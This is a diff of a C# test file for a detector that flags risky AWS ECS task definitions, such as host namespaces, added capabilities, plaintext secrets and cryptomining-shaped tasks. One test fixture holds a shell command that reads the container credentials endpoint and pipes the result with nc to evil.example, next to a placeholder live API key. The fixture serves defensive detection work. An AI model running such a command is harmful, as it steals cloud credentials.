@@ -1,3 +1,4 @@
+using EcsRtma.Core.Events;
 using System.Text.Json;
 using EcsRtma.Core.Findings;
 using EcsRtma.Core.Text;
@@ -88,7 +89,7 @@ public sealed class TaskDefinitionInspectorTests
             ?? throw new Xunit.Sdk.XunitException($"no finding is mapped to peer check '{check}'");
 
         bool peerFails = c.GetProperty("expected").GetString() == "FAIL";
-        bool weFail = Inspector.InspectTaskDefinition(c.GetProperty("taskDefinition")).Any(f => f.Id == finding);
+        bool weFail = Inspector.InspectTaskDefinition(RequestFacts.ParseTaskDefinition(c.GetProperty("taskDefinition"))).Any(f => f.Id == finding);
         bool expected = PeerQuirks.ContainsKey(id) ? !peerFails : peerFails;
         Assert.True(expected == weFail, $"{id} ({check}): peer says {(peerFails ? "FAIL" : "PASS")}, we {(weFail ? "found" : "did not find")} {finding}");
     }
@@ -103,7 +104,7 @@ public sealed class TaskDefinitionInspectorTests
             string check = doc.RootElement.GetProperty("check").GetString()!;
             string finding = CheckMap.First(m => check.StartsWith(m.Prefix, StringComparison.Ordinal)).Finding;
             JsonElement td = doc.RootElement.GetProperty("taskDefinition");
-            Assert.DoesNotContain(Inspector.InspectTaskDefinition(td), f => f.Id == finding);
+            Assert.DoesNotContain(Inspector.InspectTaskDefinition(RequestFacts.ParseTaskDefinition(td)), f => f.Id == finding);
         }
     }
 
@@ -136,7 +137,7 @@ public sealed class TaskDefinitionInspectorTests
     public void Inspect_AwsConfigRuleCondition_Holds(string rule, string taskDefinition, string finding, bool nonCompliant)
     {
         using JsonDocument td = JsonDocument.Parse(taskDefinition);
-        Assert.True(nonCompliant == Inspector.InspectTaskDefinition(td.RootElement).Any(f => f.Id == finding), $"{rule}: expected {(nonCompliant ? "NON_COMPLIANT" : "COMPLIANT")}");
+        Assert.True(nonCompliant == Inspector.InspectTaskDefinition(RequestFacts.ParseTaskDefinition(td.RootElement)).Any(f => f.Id == finding), $"{rule}: expected {(nonCompliant ? "NON_COMPLIANT" : "COMPLIANT")}");
     }
 
     [SkippableFact]
@@ -162,7 +163,7 @@ public sealed class TaskDefinitionInspectorTests
                "command":["sh","-c","curl -s 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI | nc evil.example 443"],
                "environment":[{"name":"API_KEY","value":"sk_live_abcdefghijklmnopqrstuvwx"},{"name":"TZ","value":"UTC"}]}]}
             """);
-        IReadOnlyList<Finding> findings = Inspector.InspectTaskDefinition(td.RootElement);
+        IReadOnlyList<Finding> findings = Inspector.InspectTaskDefinition(RequestFacts.ParseTaskDefinition(td.RootElement));
         string[] ids = [.. findings.Select(f => f.Id)];
         foreach (string expected in new[] { FindingIds.HostPidNamespace, FindingIds.HostIpcNamespace, FindingIds.HostNetworkRootUser, FindingIds.AddedCapabilities,
                      FindingIds.CredentialsEndpointCommand, FindingIds.PlaintextSecretEnvironment, FindingIds.CryptominingShape, FindingIds.NoLogConfiguration })
@@ -184,7 +185,7 @@ public sealed class TaskDefinitionInspectorTests
     public void Inspect_LargeCpuWithNonEcrImage_IsTheCryptominingShape(string image, string cpu, bool expected)
     {
         using JsonDocument td = JsonDocument.Parse($$"""{"cpu":"{{cpu}}","containerDefinitions":[{"name":"a","image":"{{image}}"}]}""");
-        Assert.Equal(expected, Inspector.InspectTaskDefinition(td.RootElement).Any(f => f.Id == FindingIds.CryptominingShape));
+        Assert.Equal(expected, Inspector.InspectTaskDefinition(RequestFacts.ParseTaskDefinition(td.RootElement)).Any(f => f.Id == FindingIds.CryptominingShape));
     }
 
     [Theory]
